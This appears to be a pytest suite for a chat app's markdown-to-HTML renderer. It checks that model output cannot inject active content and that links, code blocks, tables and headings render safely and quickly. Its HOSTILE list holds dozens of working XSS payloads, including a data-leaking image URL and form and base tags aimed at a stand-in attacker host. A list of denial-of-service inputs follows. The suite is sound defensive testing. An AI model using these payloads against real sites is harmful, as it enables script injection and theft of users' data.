"""What a model writes becomes HTML that is safe in any page, and says what was meant."""

import re
import time
from html.parser import HTMLParser

import pytest

from chat import rendering
from chat.rendering import render

TAGS = set(
    "p h3 h4 h5 h6 ul ol li blockquote hr pre code span a em strong del sub sup kbd mark br "
    "table thead tbody tr th td div figure figcaption".split()
)
ATTRIBUTES = {"class", "href", "title", "target", "rel", "start", "role", "tabindex", "aria-label"}
CLASSES = re.compile(r"code|table|task|ta-(?:left|center|right)|t-[a-z0-9]{1,3}")
ADDRESS = re.compile(r"https?://[^\s]+|mailto:[^\s]+|#.*|/(?![/\\]).*", re.IGNORECASE)


class Inspector(HTMLParser):
    """Collects what no answer of a model may bring into a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.text = ""
        self.links: list[dict[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.faults.append(f"{tag} {name}={value}")
        found = {name: value or "" for name, value in attrs}
        if tag == "a":
            self.links.append(found)
            if "href" in found and (
                not ADDRESS.fullmatch(found["href"]) or re.search(r"[\x00-\x1f]", found["href"])
            ):
                self.faults.append(f"href {found['href']!r}")
        for name in found.get("class", "").split():
            if not CLASSES.fullmatch(name):
                self.faults.append(f"class {name}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}")

    def handle_data(self, data: str) -> None:
        self.text += data


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)>",
    "<form action=//evil.example><button>click",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style='position:fixed;inset:0' class=composer id=query>",
    "<kbd onclick=alert(1)>x</kbd>",
    "<sub style=color:red>x</sub>",
    "<br onfocus=alert(1) autofocus tabindex=0>",
    "<details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](java&Tab;script&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/&#9;/evil.example)",
    "[x](</\t/evil.example>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "<javascript:alert(1)>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://a.example/"onmouseover=alert(1))',
    'https://a.example/"onmouseover=alert(1)',
    "https://a.example/<script>alert(1)</script>",
    "![](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![<img src=x onerror=alert(1)>](https://a.example)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|-|\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "- [x] <img src=x onerror=alert(1)>",
    "</div></article></main><h1>Sign in</h1>",
    "{{ 7*7 }} {% csrf_token %}",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_active_and_nothing_of_another_host_comes_through(source: str) -> None:
    assert inspect(render(source)).faults == []


@pytest.mark.parametrize("source", HOSTILE)
def test_the_renderer_is_safe_without_its_second_wall(source: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rendering, "CLEANER", type("NoWall", (), {"clean": staticmethod(lambda html: html)}))
    assert inspect(render(source)).faults == []


@pytest.mark.parametrize(
    "source", ["<script>alert(1)</script>", "Vec<String> and <T>", "{{ 7*7 }}", "a <!-- b -->"]
)
def test_raw_html_is_shown_as_the_text_it_is(source: str) -> None:
    assert inspect(render(source)).text.strip() == source


def test_a_few_bare_tags_work() -> None:
    assert render("H<sub>2</sub>O<br>x<sup>2</sup> <kbd>Ctrl</kbd> <mark>m</mark>") == (
        "<p>H<sub>2</sub>O<br>x<sup>2</sup> <kbd>Ctrl</kbd> <mark>m</mark></p>"
    )


@pytest.mark.parametrize(
    ("source", "href"),
    [
        ("[x](https://a.example/b?c=d&e)", "https://a.example/b?c=d&e"),
        ("[x](HTTPS://a.example)", "HTTPS://a.example"),
        ("[x](mailto:alice@example.org)", "mailto:alice@example.org"),
        ("[x](#part)", "#part"),
        ("[x](/chat/)", "/chat/"),
        ("see https://a.example/b.", "https://a.example/b"),
        ("(https://a.example/b)", "https://a.example/b"),
        ("<alice@example.org>", "mailto:alice@example.org"),
        ("<https://a.example>", "https://a.example"),
    ],
)
def test_a_link_opens_elsewhere_and_tells_nobody_where_it_was(source: str, href: str) -> None:
    (link,) = inspect(render(source)).links
    assert link["href"] == href
    assert link["target"] == "_blank"
    assert set(link["rel"].split()) == {"nofollow", "noopener", "noreferrer", "ugc"}


def test_a_link_that_is_not_safe_is_its_text() -> None:
    assert render("[click **me**](javascript:alert(1))") == "<p>click <strong>me</strong></p>"


def test_an_image_is_a_link_to_it_and_never_fetched() -> None:
    html = render("![a *chart*](https://a.example/chart.png)")
    assert "<img" not in html
    inspected = inspect(html)
    assert (inspected.text, inspected.links[0]["href"]) == ("a chart", "https://a.example/chart.png")


def test_an_image_inside_a_link_is_that_link() -> None:
    (link,) = inspect(render("[![logo](https://a.example/l.png)](https://b.example)")).links
    assert link["href"] == "https://b.example"


def test_markdown_becomes_what_it_means() -> None:
    assert render("**b** *i* ~~s~~ `c`") == (
        "<p><strong>b</strong> <em>i</em> <del>s</del> <code>c</code></p>"
    )
    assert render("> q\n\n---") == "<blockquote><p>q</p></blockquote><hr>"
    assert render("1. a\n2. b\n   - c") == '<ol start="1"><li>a</li><li>b<ul><li>c</li></ul></li></ol>'


def test_the_page_keeps_its_first_two_levels_of_headings() -> None:
    assert [re.findall("<h.", render("#" * level + " x"))[0] for level in range(1, 7)] == [
        "<h3", "<h4", "<h5", "<h6", "<h6", "<h6",
    ]  # fmt: skip


def test_code_keeps_every_character_and_has_colours() -> None:
    source = "if a < b and c > d:\n    print('&amp;')\n\n>>>>>>>>>>>>>>>>>>>>>> x\n"
    html = render(f"```python\n{source}```")
    assert inspect(html).text == "python" + source
    assert '<span class="t-k">if</span>' in html


def test_code_in_an_unknown_language_is_plain() -> None:
    assert render("```klingon\nqapla'\n```") == (
        '<figure class="code"><figcaption>klingon</figcaption>'
        '<pre tabindex="0"><code>qapla\'\n</code></pre></figure>'
    )


def test_a_table_scrolls_by_keyboard_and_is_aligned() -> None:
    html = render("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert 'role="region"' in html
    assert 'tabindex="0"' in html
    assert '<th class="ta-center">a</th><th class="ta-right">b</th>' in html
    assert '<td class="ta-center">1</td><td class="ta-right">2</td>' in html


def test_a_task_says_whether_it_is_done() -> None:
    html = render("- [x] a\n- [ ] b")
    assert 'role="img" aria-label="done"' in html
    assert 'role="img" aria-label="to do"' in html


def test_windows_line_ends_are_line_ends() -> None:
    assert render("a\r\n\r\nb") == "<p>a</p><p>b</p>"


def test_what_is_nested_too_deep_is_flat_and_whole() -> None:
    html = render("- " * 1000 + "needle\n\n" + "> " * 1000 + "thread")
    assert html.count("<ul>") == html.count("<blockquote>") == rendering.MAX_NESTING
    assert inspect(html).text == "needlethread"


BOMBS = {
    "quotes": ">" * 100_000,
    "lists": "- " * 50_000 + "x",
    "quoted lists": "> - " * 25_000,
    "numbers": "1. " * 30_000,
    "brackets": "[" * 100_000,
    "images": "![" * 50_000,
    "half links": "[a](b" * 20_000,
    "stars": "**x**a" * 16_000,
    "emphasis": "*a_ " * 25_000,
    "nested emphasis": "*_" * 25_000 + "a" + "_*" * 25_000,
    "ticks": "".join("`" * n + "a" for n in range(400)),
    "a wide table": "|".join("a" * 25_000) + "\n" + "|".join("-" * 25_000),
    "definitions": "".join(f"[a{n}]: /b\n" for n in range(9_000)),
    "references": "[a]: /b\n" + "[a] " * 25_000,
    "addresses": "http://a" * 12_000,
    "half addresses": "http://" + "." * 90_000,
    "comments": "<!--" * 25_000,
    "tags": "<sub>" * 20_000,
    "a slow language": "```perl\n" + "s{" * 9_000 + "\n```\n",
    "many slow blocks": ("```perl\n" + "s{" * 4_000 + "\n```\n") * 12,
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_hostile_text_costs_little(name: str) -> None:
    began = time.thread_time()
    html = render(BOMBS[name])
    spent = time.thread_time() - began
    assert inspect(html[:100_000]).faults == []
    assert spent < 2.5, f"{spent:.2f} s"  # a tenth of that on an idle machine
